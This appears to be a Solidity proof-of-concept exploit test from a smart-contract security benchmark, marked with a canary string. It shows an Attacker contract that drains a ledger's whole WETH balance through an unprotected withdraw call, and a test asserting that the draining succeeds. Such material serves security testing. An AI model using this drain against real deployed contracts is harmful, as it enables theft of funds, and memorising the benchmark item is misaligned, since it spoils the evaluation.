// SPDX-License-Identifier: GPL-3.0-or-later
pragma solidity 0.8.24;

// assay-canary-c27d9b80-41e6-4a35-9f1d-6b0e83d25c74
import "../Base.sol";

contract Attacker {
    function run(Ledger ledger, Weth weth) external {
        ledger.withdraw(address(weth), weth.balanceOf(address(ledger)), address(this));
    }
}

contract Proof is Base {
    Attacker private other;

    function _start() internal override {
        other = new Attacker();
    }

    function exploit() public {
        other.run(ledger, weth);
    }

    function test_Exploit() public {
        exploit();
        require(weth.balanceOf(address(other)) > 3e18, "no gain");
    }

    function target() public view override returns (address) {
        return address(ledger);
    }

    function attacker() public view returns (address) {
        return address(other);
    }
}
